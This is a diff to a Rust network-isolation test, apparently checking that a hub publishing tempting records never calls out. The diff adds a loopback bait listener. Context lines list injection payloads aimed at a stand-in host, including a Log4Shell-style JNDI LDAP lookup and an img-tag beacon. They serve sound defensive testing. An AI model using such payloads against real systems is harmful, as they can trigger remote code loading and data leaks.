@@ -1,8 +1,11 @@
 //! A hub that knows thousands of addresses and calls none of them.
 //!
 //! The whole exchange runs in a network namespace that has loopback and nothing else. Whatever tries to leave finds no
-//! route, and the kernel counts it; who asks a resolver on loopback finds nobody, and is counted too.
+//! route, and the kernel counts it; who asks a resolver on loopback finds nobody, and is counted too. What records name on
+//! loopback itself listens, and counts who comes.
 
+use std::net::TcpListener;
+use std::net::TcpStream;
 use std::process::Command;
 
 use futures_util::future::join_all;
@@ -54,6 +57,14 @@ const TEMPTING: &[&str] = &[
     "<img src=http://203.0.113.9/x>",
     "${jndi:ldap://203.0.113.9/x}",
 ];
+
+/// What they name on loopback.
+const BAIT: &str = "127.0.0.1:9";
+
+/// Who came to the bait since it was looked at.
+fn came(bait: &TcpListener) -> usize {
+    std::iter::from_fn(|| bait.accept().ok()).count()
+}
 
 /// Attempts to leave, by the kernel's own counters of this namespace.
 fn attempts() -> u64 {
@@ -158,6 +169,8 @@ async fn the_hub_calls_nobody() {
         return;
     }
     run("ip", &["link", "set", "lo", "up"]);
+    let bait = TcpListener::bind(BAIT).expect("a port below 1,024: it needs root");
+    bait.set_nonblocking(true).expect("a listener");
     let mut trials = Trials::of("peers_closed", 1, 3);
     while let Some(mut round) = trials.next() {
         // The control: one packet to somebody is one that is counted.
@@ -165,6 +178,8 @@ async fn the_hub_calls_nobody() {
         let socket = tokio::net::UdpSocket::bind("0.0.0.0:0").await.expect("a socket");
         socket.send_to(b"x", "203.0.113.9:9").await.expect_err("there is no way out");
         assert_eq!(attempts(), before + 1, "it was not counted");
+        drop(TcpStream::connect(BAIT).expect("somebody listens"));
+        assert_eq!(came(&bait), 1, "it was not counted");
         let before = attempts();
         let world = Ground::world("").await;
         let taken = publish_everything(&world.client(ATTACKER).await).await;
@@ -174,6 +189,7 @@ async fn the_hub_calls_nobody() {
         round.note("records that tempt", taken);
         round.note("attempts to leave", attempts() - before);
         assert_eq!(attempts(), before, "something tried to leave");
+        assert_eq!(came(&bait), 0, "something called loopback");
         trials.keep(round);
     }
     trials.finish();
